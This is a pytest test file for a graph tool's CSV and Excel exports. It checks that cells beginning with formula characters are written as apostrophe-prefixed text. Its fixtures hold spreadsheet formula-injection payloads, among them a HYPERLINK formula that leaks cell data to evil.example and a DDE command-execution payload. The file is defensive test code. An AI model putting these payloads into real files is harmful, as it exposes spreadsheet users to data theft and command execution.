"""Exports for spreadsheets never carry a formula: a name that starts with ``= + - @``, a tab or
a carriage return reaches CSV and Excel files as text, prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from redchain import uscc
from redchain.cli.main import cli

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What a clerk's file may hold: each would run in Excel or LibreOffice if written as it is.
IMPORTED = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=1+1",
)
# Written by other means (a script, cypher --write): the importer trims spaces and turns line
# breaks into spaces. A carriage return inside a cell starts a new row in a spreadsheet unless
# the cell is quoted, and the text after it a new cell.
WRITTEN = ("\t=1+1", "\r=1+1", "示例\r=1+1")


def write_units(folder: Path) -> Path:
    rng = random.Random(3)
    path = folder / "formulas.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["uscc", "name", "domain", "address", "contact"])
        for text in IMPORTED:
            writer.writerow([uscc.make("9", "440115", rng), text, "金融机构", text, text])
    return path


def invoke(target: Any, *args: str) -> Any:
    result = CliRunner().invoke(cli, [*target.cli_args, *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def graph(target: Any, tmp_path: Path) -> Any:
    invoke(target, "import", str(write_units(tmp_path)))
    rng = random.Random(4)
    with target.open() as engine:
        for text in WRITTEN:
            engine.run(
                "MATCH (c:Chain) CREATE (o:Organization:FinancialInstitution "
                "{uscc: $code, name: $name, domain: 'financial'})-[:MEMBER_OF]->(c)",
                {"code": uscc.make("9", "440115", rng), "name": text},
                write=True,
            )
    return target


def prefixed(texts: tuple[str, ...]) -> set[str]:
    return {"'" + t.replace("\r", "\n") for t in texts}


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula (numbers are numbers, not formulas)."""
    return [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]


def read(path: Path) -> str:
    with path.open(encoding="utf-8-sig", newline="") as f:  # keep a CR inside a cell
        return f.read()


def csv_cells(text: str) -> list[str]:
    """The cells a spreadsheet sees: a line break outside quotes ends a row, a CR included."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return [cell for row in csv.reader(io.StringIO(lines)) for cell in row]


def names_shown(cells: list[Any]) -> set[str]:
    # Carriage returns are compared as line feeds: XML (inside .xlsx) reads them back so.
    names = {t.replace("\r", "\n") for t in IMPORTED + WRITTEN}
    found = {c.replace("\r", "\n") for c in cells if isinstance(c, str)}
    return {c for c in found if c[1:] in names}


def test_csv_exports_neutralise_formulas(graph: Any, tmp_path: Path) -> None:
    invoke(graph, "export", "--format", "csv", "--out", str(tmp_path / "whole"))
    query_csv = tmp_path / "isolated.csv"
    invoke(graph, "export", "--query", "gaps/isolated", "--format", "csv", "--out", str(query_csv))
    printed = invoke(graph, "query", "run", "gaps/isolated", "--format", "csv").stdout
    outputs = {
        "nodes.csv": read(tmp_path / "whole" / "nodes.csv"),
        "relationships.csv": read(tmp_path / "whole" / "relationships.csv"),
        "export --query": read(query_csv),
        "query run --format csv": printed,
    }
    for what, text in outputs.items():
        cells = csv_cells(text)
        assert formula_cells(cells) == [], what
    nodes = csv_cells(outputs["nodes.csv"])
    assert names_shown(nodes) >= prefixed(IMPORTED + WRITTEN[:2])
    assert names_shown(csv_cells(outputs["export --query"])) >= prefixed(IMPORTED)


def test_excel_exports_hold_text_never_formulas(graph: Any, tmp_path: Path) -> None:
    whole = tmp_path / "graph.xlsx"
    rows = tmp_path / "isolated.xlsx"
    invoke(graph, "export", "--format", "xlsx", "--out", str(whole))
    invoke(graph, "export", "--query", "gaps/isolated", "--format", "xlsx", "--out", str(rows))
    for path in (whole, rows):
        book = openpyxl.load_workbook(path)  # not data_only: formulas would stay formulas
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path.name
        texts = [c.value for c in cells if c.data_type == "s" and c.value is not None]
        assert formula_cells(texts) == [], path.name
        if path == whole:
            assert names_shown(texts) >= prefixed(IMPORTED + WRITTEN[:2])
